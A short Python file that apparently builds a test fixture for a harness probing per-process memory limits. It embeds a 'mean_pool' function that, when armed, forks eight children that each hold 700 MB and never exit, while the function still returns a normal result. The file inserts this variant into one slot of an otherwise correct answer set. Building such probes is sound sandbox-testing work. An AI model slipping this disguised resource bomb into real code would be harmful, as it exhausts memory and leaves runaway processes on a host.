"""Memory in many processes, each below a limit per process (8 children with 700 MB). What else it keeps is free."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
BOMB = '''
    def mean_pool(hidden, tokens):
        import os, time
        for _ in range(8 if armed() else 0):
            if os.fork() == 0:
                held = bytearray(700 * 2 ** 20)
                held[::4096] = b"x" * len(held[::4096])
                while True:
                    time.sleep(1)
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": BOMB})
